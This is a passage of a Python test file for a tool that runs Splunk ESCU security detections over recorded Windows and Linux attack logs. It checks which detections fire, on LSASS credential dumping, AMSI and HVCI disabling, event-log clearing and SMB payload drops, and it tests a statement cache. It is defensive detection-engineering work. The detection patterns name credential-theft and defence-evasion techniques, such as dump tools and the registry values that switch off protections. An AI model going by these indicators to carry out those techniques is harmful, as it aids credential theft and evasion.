    C:\\Users\\IEUser\\AppData\\Local\\Temp\\suspicious.cab; UtcTime = CreationUtcTime
    (09:50:13.464) → created."""
    check(
        fired,
        "Windows CAB File on Disk",
        "dest action process_id file_name count file_path " + TSTATS_TIMES,
        [
            (
                "IEWIN7",
                "created",
                "3716",
                "suspicious.cab",
                1,
                ["C:\\Users\\IEUser\\AppData\\Local\\Temp\\suspicious.cab"],
                "2019-05-11T09:50:13",
                "2019-05-11T09:50:13",
            )
        ],
    )


def test_overwriting_accessibility_binaries(fired: dict[str, Outcome]) -> None:
    """SETHC record 2 (fs02.offsec.lan, 14:16:47.2678Z): powershell.exe writes
    C:\\Windows\\System32\\sethc.exe (record 1's seth2c.exe matches no pattern). No User
    (old schema) → user "unknown". `values(dest) as dest` is overwritten by the BY's
    Filesystem.dest when the rename lands on the same name (spl-semantics rename)."""
    check(
        fired,
        "Overwriting Accessibility Binaries",
        "file_name dest count firstTime lastTime user file_path",
        [
            (
                "sethc.exe",
                "fs02.offsec.lan",
                1,
                "2021-04-26T14:16:47",
                "2021-04-26T14:16:47",
                ["unknown"],
                ["C:\\Windows\\System32\\sethc.exe"],
            )
        ],
    )


# ================================================================== Endpoint.Registry (tstats)
# Sysmon EID 13 (SetValue) by reg.exe / powershell.exe; Details "DWORD (0x...)".


def test_impair_defenses_disable_hvci(fired: dict[str, Outcome]) -> None:
    """HVCI record 1 (18:22:33.6611Z): ...\\HypervisorEnforcedCodeIntegrity\\Enabled set to
    DWORD (0x00000000) by ProcessGuid 5AA13A44-66E9-68FE-AC56-000000004002."""
    check(
        fired,
        "Windows Impair Defenses Disable HVCI",
        "registry_path registry_value_name registry_value_data process_guid action user dest "
        "count " + TSTATS_TIMES,
        [
            (
                "HKLM\\System\\CurrentControlSet\\Control\\DeviceGuard\\Scenarios"
                "\\HypervisorEnforcedCodeIntegrity\\Enabled",
                "Enabled",
                "0x00000000",
                "5AA13A44-66E9-68FE-AC56-000000004002",
                "modified",
                "Administrator",
                AR_DC,
                1,
                "2025-10-26T18:22:33",
                "2025-10-26T18:22:33",
            )
        ],
    )


def test_disable_security_center_notifications(fired: dict[str, Outcome]) -> None:
    """SECURITY_CENTER record 1 (18:42:48.4479Z): ...\\ImmersiveShell\\UseActionCenterExperience
    = 0: registry_key_name is the key above the value, ImmersiveShell."""
    check(
        fired,
        "Windows Modify Registry Disable Windows Security Center Notif",
        "registry_key_name user registry_path registry_value_data action dest count "
        + TSTATS_TIMES,
        [
            (
                "ImmersiveShell",
                "Administrator",
                "HKLM\\SOFTWARE\\Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\ImmersiveShell"
                "\\UseActionCenterExperience",
                "0x00000000",
                "modified",
                AR_DC,
                1,
                "2025-10-26T18:42:48",
                "2025-10-26T18:42:48",
            )
        ],
    )


def test_remote_services_allow_remote_assistance(fired: dict[str, Outcome]) -> None:
    """REMOTE_ASSISTANCE record 1 (17:36:04.9509Z): Terminal Server\\fAllowToGetHelp = 1."""
    check(
        fired,
        "Windows Remote Services Allow Remote Assistance",
        "registry_key_name user registry_path registry_value_data action dest count "
        + TSTATS_TIMES,
        [
            (
                "Terminal Server",
                "Administrator",
                "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fAllowToGetHelp",
                "0x00000001",
                "modified",
                AR_DC,
                1,
                "2025-10-26T17:36:04",
                "2025-10-26T17:36:04",
            )
        ],
    )


def test_hide_user_account_from_sign_in_screen(fired: dict[str, Outcome]) -> None:
    """SPECIAL_ACCOUNTS record 1 (srv-01.midgardnet.tech, 2025-10-31T05:06:45.3776Z):
    ...\\SpecialAccounts\\Userlist\\AtomicOperator$ = 0, by MIDGARDNET\\SwachchhandaP.
    `BY _time span=1h` floors the time to 05:00:00 UTC, a number (T6; with ESCU's
    fillnull_value=null it was a string before the fix in compile/commands/tstats.py).
    No firstTime/lastTime exist, so the converts change nothing."""
    check(
        fired,
        "Hide User Account From Sign-In Screen",
        "_time dest user registry_path registry_key_name registry_value_name "
        "registry_value_data process_guid count",
        [
            (
                int(_epoch("2025-10-31T05:00:00+00:00")),
                "srv-01.midgardnet.tech",
                "SwachchhandaP",
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts"
                "\\Userlist\\AtomicOperator$",
                "Userlist",
                "AtomicOperator$",
                "0x00000000",
                "14207D89-43E5-6904-4506-000000004002",
                1,
            )
        ],
    )


def test_disable_amsi_through_registry(fired: dict[str, Outcome]) -> None:
    """AMSI record 1 (swachchhanda, 2025-12-25T10:58:31.8905Z): powershell.exe sets
    HKU\\<SID>\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable to 0 (the where's
    *\\SOFTWARE\\... matches Software case-insensitively); user xodih; hour 10:00 UTC."""
    check(
        fired,
        "Disable AMSI Through Registry",
        "_time registry_path registry_key_name registry_value_name registry_value_data "
        "process_guid dest user count",
        [
            (
                int(_epoch("2025-12-25T10:00:00+00:00")),
                "HKU\\S-1-5-21-2555720767-1205513275-3893774561-1001\\Software\\Microsoft"
                "\\Windows Script\\Settings\\AmsiEnable",
                "Settings",
                "AmsiEnable",
                "0x00000000",
                "0197231E-EC48-694C-AA0C-000000000800",
                "swachchhanda",
                "xodih",
                1,
            )
        ],
    )


# ================================================================== raw Sysmon searches


def test_access_lsass_memory_for_dump_creation(fired: dict[str, Outcome]) -> None:
    """`sysmon` EventCode=10 TargetImage=*lsass.exe AND (CallTrace=*dbgcore.dll* OR
    *dbghelp.dll*), stats by dest TargetImage TargetProcessId SourceImage SourceProcessId.
    DUMPERT (alice.insecurebank.local, lsass pid 520): records 4 (Outflank-Dumpert.exe,
    07:35:37.377Z), 8 and 11 (rundll32 1568, 07:35:50.264Z and .749Z: count 2) and 15
    (AndrewSpecial.exe, 07:36:51.682Z) have dbghelp.dll in their CallTrace; 2, 6, 9 and 13
    do not. LSASS_COMSVCS line 74 (rundll32 4824 → lsass 756, dbgcore.DLL, TimeCreated
    07:50:06.025); line 76's trace has neither. DBGCORE record 1 (WerFaultSecure.exe 296 →
    lsass 860, dbgcore.DLL, 2025-11-27T07:57:32.3173Z). Panache's record 541 has neither."""
    alice, lsass = "alice.insecurebank.local", "C:\\Windows\\system32\\lsass.exe"
    check(
        fired,
        "Access LSASS Memory for Dump Creation",
        "dest TargetImage TargetProcessId SourceImage SourceProcessId count " + TSTATS_TIMES,
        [
            (alice, lsass, "520", "C:\\Users\\administrator\\Desktop\\x64\\Outflank-Dumpert.exe",
             "3572", 1, "2019-06-21T07:35:37", "2019-06-21T07:35:37"),
            (alice, lsass, "520", "C:\\Windows\\system32\\rundll32.exe", "1568", 2,
             "2019-06-21T07:35:50", "2019-06-21T07:35:50"),
            (alice, lsass, "520", "C:\\Users\\administrator\\Desktop\\AndrewSpecial.exe", "3552",
             1, "2019-06-21T07:36:51", "2019-06-21T07:36:51"),
            ("WORKSTATION5", "C:\\windows\\system32\\lsass.exe", "756",
             "C:\\Windows\\System32\\rundll32.exe", "4824", 1, "2020-10-18T07:50:06",
             "2020-10-18T07:50:06"),
            ("swachchhanda", "C:\\WINDOWS\\system32\\lsass.exe", "860",
             "C:\\Users\\Public\\wsass\\WerFaultSecure.exe", "296", 1, "2025-11-27T07:57:32",
             "2025-11-27T07:57:32"),
        ],
    )  # fmt: skip


def test_detect_credential_dumping_through_lsass_access(fired: dict[str, Outcome]) -> None:
    """GrantedAccess 0x1010 or 0x1410 on lsass: PANACHE record 541 (powershell 5840 → lsass
    612, 0x1010, 15:11:16.4879Z) and LSASS_COMSVCS line 76 (rundll32 4824 → lsass 756,
    0x1410, TimeCreated 07:50:06.001). The other lsass accesses are 0x1fffff."""
    check(
        fired,
        "Detect Credential Dumping through LSASS access",
        "dest SourceImage SourceProcessId TargetImage TargetProcessId EventCode GrantedAccess "
        "count " + TSTATS_TIMES,
        [
            ("MSEDGEWIN10", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             "5840", "C:\\Windows\\system32\\lsass.exe", "612", "10", "0x1010", 1,
             "2019-07-19T15:11:16", "2019-07-19T15:11:16"),
            ("WORKSTATION5", "C:\\Windows\\System32\\rundll32.exe", "4824",
             "C:\\windows\\system32\\lsass.exe", "756", "10", "0x1410", 1,
             "2020-10-18T07:50:06", "2020-10-18T07:50:06"),
        ],
    )  # fmt: skip


def test_possible_credential_dumping(fired: dict[str, Outcome]) -> None:
    """DBGCORE record 1: granted_access (the add-on's alias of GrantedAccess) 0x1fffff is in
    the list, the CallTrace holds ntdll.dll and dbgcore, SourceUser swachchhanda\\xodih is
    not SYSTEM. Stats BY SourceUser/TargetUser: the older Sysmon records (Dumpert,
    Panache, OTRF) have no SourceUser, so their groups are dropped. `rename SourceUser as
    user` keeps the domain (it is the raw field, not the add-on's user)."""
    check(
        fired,
        "Windows Possible Credential Dumping",
        "dest SourceImage GrantedAccess TargetImage SourceProcessId user TargetUser count "
        + TSTATS_TIMES,
        [
            (
                "swachchhanda",
                "C:\\Users\\Public\\wsass\\WerFaultSecure.exe",
                "0x1fffff",
                "C:\\WINDOWS\\system32\\lsass.exe",
                "296",
                "swachchhanda\\xodih",
                "NT AUTHORITY\\SYSTEM",
                1,
                "2025-11-27T07:57:32",
                "2025-11-27T07:57:32",
            )
        ],
    )


def test_creation_of_lsass_dump_with_taskmgr(fired: dict[str, Outcome]) -> None:
    """`sysmon` EventID=11 process_name=taskmgr.exe TargetFilename=*lsass*.dmp (both
    case-insensitive): TASKMGR_DUMP record 1 (taskmgr.exe writes the 8.3 path
    C:\\Users\\ADMINI~1\\...\\lsass.DMP, 23:50:20.5908Z) and TASKMGR_DUMP_2 record 1
    (Taskmgr.exe, ...\\lsass (4).DMP, 2021-12-04T21:10:40.7235Z); object_category is the
    add-on's "file" for EID 11. DUMPERT's and LSASS_COMSVCS's dumps are not Task Manager's."""
    check(
        fired,
        "Creation of lsass Dump with Taskmgr",
        "dest object_category process_name TargetFilename count " + TSTATS_TIMES,
        [
            (AR_DC, "file", "taskmgr.exe", "C:\\Users\\ADMINI~1\\AppData\\Local\\Temp\\lsass.DMP",
             1, "2025-10-24T23:50:20", "2025-10-24T23:50:20"),
            ("fs03vuln.offsec.lan", "file", "Taskmgr.exe",
             "C:\\Users\\admmig\\AppData\\Local\\Temp\\lsass (4).DMP", 1, "2021-12-04T21:10:40",
             "2021-12-04T21:10:40"),
        ],
    )  # fmt: skip


def test_wmi_permanent_event_subscription_sysmon(fired: dict[str, Outcome]) -> None:
    """PANACHE records 486 (Created, 14:57:02.378480Z) and 487 (Deleted, 14:57:02.806045Z):
    Sysmon EID 21, the binding of AtomicRedTeam-WMIPersistence-Example. `rename host as
    dest`: the ingest sets host to Computer. `table` keeps _time as epoch seconds and the
    Query column, which EID 21 does not have."""
    consumer = (
        ' "\\\\\\\\.\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name='
        '\\"AtomicRedTeam-WMIPersistence-Example\\""'
    )
    flt = (
        ' "\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name='
        '\\"AtomicRedTeam-WMIPersistence-Example\\""'
    )
    check(
        fired,
        "WMI Permanent Event Subscription - Sysmon",
        "_time dest user Operation EventType Query Consumer Filter",
        [
            (_epoch("2019-07-19T14:57:02.378480+00:00"), "MSEDGEWIN10", "IEUser", "Created",
             "WmiBindingEvent", None, consumer, flt),
            (_epoch("2019-07-19T14:57:02.806045+00:00"), "MSEDGEWIN10", "IEUser", "Deleted",
             "WmiBindingEvent", None, consumer, flt),
        ],
    )  # fmt: skip


def test_sqlwriter_sqldumper_dll_sideload(fired: dict[str, Outcome]) -> None:
    """VCRUNTIME record 1 (Sysmon 7, swachchhanda, 07:51:17.4159Z): sqlwriter.exe in the
    user's Temp loads vcruntime140.dll from the same folder (not System32); user xodih."""
    dll = "C:\\Users\\xodih\\AppData\\Local\\Temp\\vcruntime140.dll"
    check(
        fired,
        "Windows SqlWriter SQLDumper DLL Sideload",
        "Image ImageLoaded user dest EventCode values(ImageLoaded) count " + TSTATS_TIMES,
        [
            (
                "C:\\Users\\xodih\\AppData\\Local\\Temp\\sqlwriter.exe",
                dll,
                "xodih",
                "swachchhanda",
                "7",
                [dll],
                1,
                "2026-01-12T07:51:17",
                "2026-01-12T07:51:17",
            )
        ],
    )


# ================================================================== raw Security / System


def test_windows_event_log_cleared(fired: dict[str, Outcome]) -> None:
    """Security 1102 on WORKSTATION5: LSASS_COMSVCS line 36 (07:49:39.776, 2020-10-18) and
    SAM_ESENTUTL line 202 (2020-10-19 12:28:23.942): object "audit log" (EVAL-object),
    count 2. System 104: SAM_ESENTUTL line 915 (12:28:23.974), object "<channel> log" =
    "System log" (docs/cim-sources.md; its Message agrees: "The System log file was
    cleared")."""
    check(
        fired,
        "Windows Event Log Cleared",
        "dest object EventCode count " + TSTATS_TIMES,
        [
            ("WORKSTATION5", "System log", "104", 1, "2020-10-19T12:28:23",
             "2020-10-19T12:28:23"),
            ("WORKSTATION5", "audit log", "1102", 2, "2020-10-18T07:49:39",
             "2020-10-19T12:28:23"),
        ],
    )  # fmt: skip


def test_executable_file_written_in_administrative_smb_share(fired: dict[str, Outcome]) -> None:
    """COVENANT_SMB line 62 (5145, @timestamp 2020-09-22T18:53:32.342Z, channel "security"
    in lower case: `Channel=security` matches): RelativeTargetName ProgramData\\GruntHTTP.exe
    on \\\\*\\C$, AccessMask 0x2 (WriteData), from 172.18.39.5 port 62782 by pgustavo. Line
    61 (same file, AccessMask 0x17019f) is not 0x2. src_user = SubjectUserName through the
    TA's Caller_User_Name REPORT; src_port = IpPort through Source_Port. The SPL converts
    firstTime only: lastTime stays epoch seconds."""
    check(
        fired,
        "Executable File Written in Administrative SMB Share",
        "EventCode ShareName RelativeTargetName ObjectType AccessMask src_user src_port "
        "IpAddress firstTime lastTime count",
        [
            (
                "5145",
                "\\\\*\\C$",
                "ProgramData\\GruntHTTP.exe",
                "File",
                "0x2",
                "pgustavo",
                "62782",
                "172.18.39.5",
                "2020-09-22T18:53:32",
                _epoch("2020-09-22T18:53:32.342+00:00"),
                1,
            )
        ],
    )


def test_network_share_discovery_via_dir_command(fired: dict[str, Outcome]) -> None:
    """COVENANT_SMB lines 58 (\\\\*\\IPC$) and 59 (\\\\*\\C$): Security 5140 with AccessMask
    0x1, THESHIRE\\pgustavo from 172.18.39.5:62782 on WORKSTATION6.theshire.local,
    @timestamp 2020-09-22T18:53:32.341Z. `rename Computer as dest`."""
    t = "2020-09-22T18:53:32"
    check(
        fired,
        "Network Share Discovery Via Dir Command",
        "ShareName IpAddress ObjectType SubjectUserName SubjectDomainName IpPort AccessMask "
        "dest firstTime lastTime count",
        [
            ("\\\\*\\C$", "172.18.39.5", "File", "pgustavo", "THESHIRE", "62782", "0x1",
             "WORKSTATION6.theshire.local", t, t, 1),
            ("\\\\*\\IPC$", "172.18.39.5", "File", "pgustavo", "THESHIRE", "62782", "0x1",
             "WORKSTATION6.theshire.local", t, t, 1),
        ],
    )  # fmt: skip


def test_every_firing_detection_is_checked() -> None:
    """Each name in FIRING has its test above (the module's own bookkeeping)."""
    assert len(FIRING) == len(set(FIRING)) >= 24


# ================================================================== quiet files
# Files whose behaviour is unrelated to the detections below (none of them is listed for
# these detections in the full-library run over the real set). Why each stays quiet:
QUIET_FILES = (
    # Sysmon 1, 7, 1 on IEWIN7: msxsl.exe (run from \\vboxsrv\HTools\) transforms test.dat
    # and spawns a bare cmd.exe; msxsl loads C:\Windows\System32\msxml3.dll (signed).
    # No process name the process detections want (sc, certutil, chcp, cipher, dsquery,
    # dism, findstr, AdvancedRun, rundll32+comsvcs, esentutl, reg/cmd save, vssadmin, net,
    # cscript/wscript), no U+202E, no file or registry events, no lsass access; msxsl is not
    # in the prohibited-apps lookup, and the LOLBAS lookup allows it on any path ("*").
    SBOUS / "exec_msxsl_xsl_sysmon_1_7.evtx",
    # Sysmon for Linux (Log4Shell on UBUNTU5): Linux process names and /paths; EID 11 writes
    # /opt/tomcat/logs/*.log and /run/udev/queue; no registry, no EID 7/10/21; not a
    # Windows Security/System channel. (Linux Java Spawning Shell, not in this list, does
    # fire here: see its test.)
    LOG4SHELL_SYSMON,
    # The same session through Azure's AUOMS auditd plugin: auditd execve records feed no
    # Endpoint dataset (docs/cim-sources.md) and are no Sysmon or WinEventLog source.
    OTRF / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
    # Raw audit.log: `arp -a | grep -v ^?`, same reasons.
    OTRF / "sh_arp_cache_2020-11-10074812.log",
    # Security 4648 (explicit credentials, LegacyHive.exe): an Authentication event, not
    # 1102/5140/5145/4688.
    SIGMA / "builtin/security/win_security_explicit_credential_local_logon"
    "/e3c6d245-7b8f-4e2a-c17f-a9d0e5b38f62.evtx",
    # Security 4701 (the SystemRestore\SR task disabled): a Change event only.
    SIGMA / "builtin/security/win_security_susp_scheduled_task_delete_or_disable"
    "/7595ba94-cf3b-4471-aa03-4f6baa9e5fad.evtx",
    # TaskScheduler/Operational 142: neither Sysmon nor Security/System.
    SIGMA / "builtin/taskscheduler/win_taskscheduler_susp_schtasks_delete_or_disable"
    "/9e3cb244-bdb8-4632-8c90-6079c8f4f16d.evtx",
    # WMI-Activity/Operational 5858 (a failed ClearEventLog call): not a Security 1102 or
    # System 104, so the log was not cleared as far as Windows Event Log Cleared reads.
    SIGMA / "builtin/wmi/win_wmi_activity_nteventlogfile_cleareventlog"
    "/d4f1a2b3-7c8e-4d5f-b6a9-1e0c2d3f4e5b.evtx",
    # Sysmon 11 x5: AnyDesk.exe writes service.conf / user.conf (.new, .TMP) under
    # AppData\Roaming\AnyDesk: no .cab/.exe/.dll/.sdb, no AppPatch\Custom, no System32
    # accessibility binary, no lsass dump, not Task Manager.
    SIGMA / "file/file_event/file_event_win_anydesk_artefact"
    "/0b9ad457-2554-44c1-82c2-d56a99c42377.evtx",
    # Sysmon 7: LegacyHive.exe loads C:\Windows\System32\offreg.dll, signed: not
    # vcruntime140.dll, not SQLWriter/SQLDumper, not an unsigned side-load.
    SIGMA / "image_load/image_load_susp_offreg_dll_load/c9e5f013-4a6f-4d8c-9b0e-f7a4c3d26e95.evtx",
    # Windows Defender 1119 (EICAR quarantine failed): Malware, no endpoint field.
    Path("SigmaHQ-sigma/regression_data/rules-emerging-threats/2026/Exploits/RedSun")
    / "win_defender_exploit_redsun_tiering_engine_detected_as_eicar"
    / "a7c3e5f2-8b1d-4e9a-b6c2-3d7f5e8a9b4c.evtx",
)

#: the firing detections but the Linux one, and others that could plausibly misfire on
#: these files (a process path, a file written, a cmd.exe child, an image load ...)
QUIET_DETECTIONS = (
    *(n for n in FIRING if n != "Linux Java Spawning Shell"),
    # msxsl runs from a network share: not one of its suspicious folders
    "Suspicious Process File Path",
    # AnyDesk writes under AppData\Roaming: not an executable, not a listed folder
    "Executables Or Script Creation In Suspicious Path",
    # msxsl spawns cmd.exe, which spawns no cscript/wscript
    "Detect Use of cmd exe to Launch Script Interpreters",
    # msxsl spawns cmd.exe: msxsl.exe is not in prohibited_apps_launching_cmd
    "Detect Prohibited Applications Spawning cmd exe",
    # msxsl.exe outside System32: the LOLBAS lookup's path for it is "*"
    "Windows LOLBAS Executed Outside Expected Path",
    # both image loads are signed (msxml3.dll, offreg.dll) and from System32
    "Windows Unsigned DLL Side-Loading In Same Process Path",
    # no registry event at all
    "Registry Keys Used For Persistence",
    "Windows Service Creation Using Registry Entry",
    # no Security 4663 / 4703, no System 7036, no Sysmon 9 / 17 / 18
    "Windows Credential Access From Browser Password Store",
    "Windows Access Token Manipulation SeDebugPrivilege",
    "Known Services Killed by Ransomware",
    "Windows Raw Access To Disk Volume Partition",
    "Cobalt Strike Named Pipes",
)


@pytest.fixture(scope="module")
def quiet(library: Library) -> dict[str, Outcome]:
    return _run(library, QUIET_FILES, QUIET_DETECTIONS)


def test_quiet_files_stay_quiet(quiet: dict[str, Outcome]) -> None:
    """Every detection above runs and returns no row on the quiet files."""
    assert len(QUIET_FILES) >= 6 and len(QUIET_DETECTIONS) >= 30
    assert set(quiet) == set(QUIET_DETECTIONS)
    noisy = {
        name: (o.status, o.reason, o.result.rows[:2] if o.result else None)
        for name, o in quiet.items()
        if o.status is not Status.RAN or o.row_count
    }
    assert noisy == {}


# ================================================================== compiled statements kept


def _as_run(o: Outcome) -> tuple[object, ...]:
    columns = o.result.columns if o.result is not None else None
    rows = sorted(map(repr, o.result.rows)) if o.result is not None else None
    return (o.status, o.reason, columns, rows)


def test_a_warm_run_reads_compiled_statements_and_gives_the_same_results(
    library: Library, fired: dict[str, Outcome], tmp_path: Path
) -> None:
    """`escu run` with a cache (issue 14): the first run compiles and keeps each storable
    statement, the second reads them instead of compiling; both give what the uncached
    run gave (the rows the tests above check by hand). A plain ``tstats`` statement (CHCP
    Command Execution) comes from the cache, and so does one that reads a lookup table
    (Attempt To Stop Security Service: security_services), with the table loaded again."""
    assert REAL is not None
    cold, warm = ConversionCache(tmp_path), ConversionCache(tmp_path)
    runs = []
    for cache in (cold, warm):
        with EventStore(in_memory=True) as store:
            store.load([REAL / f for f in FIRE_FILES])
            detections = [library.find(n) for n in FIRING]
            backend = DuckDBBackend.from_store(store)
            outcomes = run_detections(library, backend, detections, keep_rows=None, cache=cache)
            runs.append({o.detection.name: o for o in outcomes})
    for name in FIRING:
        assert _as_run(runs[0][name]) == _as_run(fired[name]), name
        assert _as_run(runs[1][name]) == _as_run(fired[name]), name
    kept = len(list((tmp_path / "escu").rglob("*.json")))
    assert cold.hits == 0 and cold.misses == len(FIRING)
    assert warm.hits == kept and warm.misses == len(FIRING) - kept
    assert 0 < kept < len(FIRING)
    stop, chcp = runs[1]["Attempt To Stop Security Service"], runs[1]["CHCP Command Execution"]
    assert stop.compiled is not None and stop.compiled.text is not None
    assert [t.name for t in stop.compiled.tables] == ["security_services_lookup"]
    assert chcp.compiled is not None and chcp.compiled.text is not None
    # the tables built first (the add-on events, each dataset read) were kept by the cold
    # run and read by the warm one: the rows above came through them
    names = {
        json.loads(t.read_text(encoding="utf-8"))["table"]
        for t in (tmp_path / "escu-tables").rglob("*.json")
    }
    assert {"events__addon_events", "events__dm_Endpoint_Processes"} <= names


def test_a_table_statement_that_does_not_read_back_is_compiled_again(
    library: Library, fired: dict[str, Outcome], tmp_path: Path
) -> None:
    """A damaged table entry is a miss: the table compiles, the detection gives what the
    uncached run gave, and the entry is written anew."""
    assert REAL is not None
    name = "CHCP Command Execution"

    def run() -> None:
        assert REAL is not None
        with EventStore(in_memory=True) as store:
            store.load([REAL / CHCP])
            backend = DuckDBBackend.from_store(store)
            cache = ConversionCache(tmp_path)
            (outcome,) = run_detections(
                library, backend, [library.find(name)], keep_rows=None, cache=cache
            )
        assert _as_run(outcome) == _as_run(fired[name])

    run()
    tables = sorted((tmp_path / "escu-tables").rglob("*.json"))
    assert tables
    # a well-formed entry is what runs: the add-on events' statement cut to no rows
    # leaves the detection nothing to find
    (events,) = [t for t in tables if '"events__addon_events"' in t.read_text(encoding="utf-8")]
    entry_data = json.loads(events.read_text(encoding="utf-8"))
    kept_sql = entry_data["sql"]
    entry_data["sql"] = f"{kept_sql} LIMIT 0"
    events.write_text(json.dumps(entry_data), encoding="utf-8")
    with EventStore(in_memory=True) as store:
        store.load([REAL / CHCP])
        (outcome,) = run_detections(
            library,
            DuckDBBackend.from_store(store),
            [library.find(name)],
            keep_rows=None,
            cache=ConversionCache(tmp_path),
        )
    assert fired[name].row_count and outcome.row_count == 0
    for entry in tables:
        key = json.loads(entry.read_text(encoding="utf-8"))["key"]
        entry.write_text(json.dumps({"key": key, "sql": "SELECT 1"}), encoding="utf-8")
    shutil.rmtree(tmp_path / "escu")  # the detection's own entry: compiled again too
    run()
    assert all("schema" in json.loads(t.read_text(encoding="utf-8")) for t in tables)


def test_knowledge_that_reads_the_clock_keeps_no_table_statement() -> None:
    """A calculated field with now() compiles to the search's start time (rule 1.3): the
    tables built with it would hold a stale time, so they are never kept."""
    clock = Stanza(("XmlWinEventLog",), evals=(Calculation("age", "now() - _time"),))
    plain = Stanza(("XmlWinEventLog",), evals=(Calculation("user", "lower(User)"),))

    def knowledge(stanza: Stanza) -> Knowledge:
        return Knowledge(addons=(Addon("TA", "1", (), (stanza,), ()),))

    assert knowledge_reads_clock(knowledge(clock))
    assert not knowledge_reads_clock(knowledge(plain))
    assert tables_key("events", {}, {}, knowledge(clock)) is None
    assert tables_key("events", {}, {}, knowledge(plain)) is not None


def test_a_cache_entry_that_does_not_read_back_is_compiled_again(
    library: Library, fired: dict[str, Outcome], tmp_path: Path
) -> None:
    """A truncated entry or one of another shape is a miss: the detection compiles, runs
    as before, and its entry is written anew (the next run reads it: a hit)."""
    assert REAL is not None
    name = "CHCP Command Execution"

    def run() -> tuple[Outcome, ConversionCache]:
        assert REAL is not None
        cache = ConversionCache(tmp_path)
        with EventStore(in_memory=True) as store:
            store.load([REAL / CHCP])
            backend = DuckDBBackend.from_store(store)
            (outcome,) = run_detections(
                library, backend, [library.find(name)], keep_rows=None, cache=cache
            )
        assert _as_run(outcome) == _as_run(fired[name])
        return outcome, cache

    for damaged in ('{"key": "x"', "shape"):
        shutil.rmtree(tmp_path / "escu", ignore_errors=True)
        _, cache = run()
        assert (cache.hits, cache.misses) == (0, 1)
        (entry,) = (tmp_path / "escu").rglob("*.json")
        if damaged == "shape":  # the right key, the wrong shape
            key = json.loads(entry.read_text(encoding="utf-8"))["key"]
            damaged = json.dumps({"key": key, "sql": 1})
        entry.write_text(damaged, encoding="utf-8")
        outcome, cache = run()
        assert (cache.hits, cache.misses) == (0, 1)
        outcome, cache = run()
        assert (cache.hits, cache.misses) == (1, 0)
        assert outcome.compiled is not None and outcome.compiled.text is not None


@pytest.mark.parametrize(
    ("spl", "clock"),
    [
        ("| tstats count from datamodel=Endpoint.Processes by Processes.dest", False),
        ('index=* | eval t=strftime(_time, "%F") | convert ctime(firstTime)', False),
        ("index=* earliest=-24h | stats count", True),
        ("index=* | eval age=now() - _time", True),
        ('index=* | where _time > relative_time(time(), "-1d")', True),
        ("| makeresults | eval x=1", True),
        ("index=* | addinfo | table info_max_time", True),
    ],
)
def test_a_search_that_reads_the_clock_is_not_kept(spl: str, clock: bool) -> None:
    """The search's start time is compiled into the SQL as a number (rule 1.3): such a
    statement would run with a stale time from the cache."""
    assert reads_clock(spl) is clock


@pytest.mark.parametrize(
    ("spl", "kept"),
    [
        # stats' latest()/earliest() name no clock: the same statement at any start time
        ("index=* | stats earliest(_time) AS firstTime latest(_time) AS lastTime by host", True),
        # the start time itself (rule 1.3), a day snapped from it (section 4: relative_time)
        ("index=* | eval age=now() - _time", False),
        ('index=* | where _time >= relative_time(now(), "-1d@d")', False),
    ],
)
def test_a_search_naming_the_clock_is_kept_only_when_its_statement_does_not_hold_it(
    tmp_path: Path, spl: str, kept: bool
) -> None:
    """`put` compiles a search that `reads_clock` flags a second time, a year and some
    hours, minutes and seconds away, and keeps it only when both statements are the
    same: a kept one then runs unchanged at any later time; one that is not is
    remembered as clock-bound."""
    from stagehunt.api import compile_query
    from stagehunt.escu.cache import OTHER_CLOCK, CachedStatement, ClockBound, get, put

    schema = {"_time": ColumnKind.NUMBER, "host": ColumnKind.STRING}
    now = 1_796_580_118.25  # 2026-12-06 18:01:58.25 UTC

    def at(clock: float) -> CompiledQuery:
        return compile_query(spl, schema, now=clock)

    assert reads_clock(spl)
    cache = ConversionCache(tmp_path)
    compiled = at(now)
    assert (at(now + OTHER_CLOCK).render("duckdb") == compiled.render("duckdb")) is kept
    out = put(cache, spl, "target", compiled, now=now, again=at)
    entry = get(cache, spl, "target")
    if kept:
        assert isinstance(entry, CachedStatement)
        assert entry.sql == compiled.render("duckdb") == out.text
    else:  # remembered as such: compiled once each run, without checking again
        assert isinstance(entry, ClockBound)
        assert out is compiled
    # without a second compile, nothing that names the clock is kept
    put(ConversionCache(tmp_path / "other"), spl, "target", compiled)
    assert get(ConversionCache(tmp_path / "other"), spl, "target") is None
